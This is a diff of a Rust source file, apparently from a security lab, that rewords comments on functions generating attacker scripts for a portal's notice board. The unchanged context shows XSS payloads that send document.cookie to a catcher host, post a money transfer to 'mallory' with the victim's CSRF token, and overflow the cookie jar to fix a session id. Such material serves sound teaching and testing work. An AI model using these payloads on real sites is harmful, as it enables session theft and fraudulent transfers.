@@ -1,5 +1,5 @@
-//! The scripts that the attacker plants on the portal's notice board: as text for his pages and for
-//! the attacks, one source for both.
+//! The scripts that the attacker plants on the portal's notice board. The attacker's pages show them
+//! as text, and the attacks post them: one source for both.
 
 /// Loads an image whose address carries `document.cookie` to the catcher.
 pub fn steal_cookie(catcher: &str) -> String {
@@ -24,7 +24,7 @@ pub fn steal_storage(catcher: &str) -> String {
     )
 }
 
-/// Posts the transfer form from the victim's own page, with the token that stands there.
+/// Posts the transfer form from the victim's own page, with the token in that page.
 pub fn ride_session() -> String {
     "<script>f=new URLSearchParams({to:'mallory',amount:'1'});\
      t=document.querySelector('[name=csrf_token]');\
@@ -33,10 +33,10 @@ pub fn ride_session() -> String {
         .to_owned()
 }
 
-/// Fills the jar until the browser has thrown the session cookie out, sets it anew with this id, and
-/// removes what it filled the jar with.
+/// Fills the jar until the browser deletes the session cookie, sets it again with this id, and removes
+/// the filling.
 ///
-/// `Secure` is written wherever the page may do so: cookies without it are thrown out first, so they
+/// `Secure` is written wherever the page may do so: cookies without it are deleted first, so they
 /// would never displace one that has it. Chromium writes cookies behind the script's back; reading
 /// waits for them.
 pub fn overflow(name: &str, id: &str) -> String {
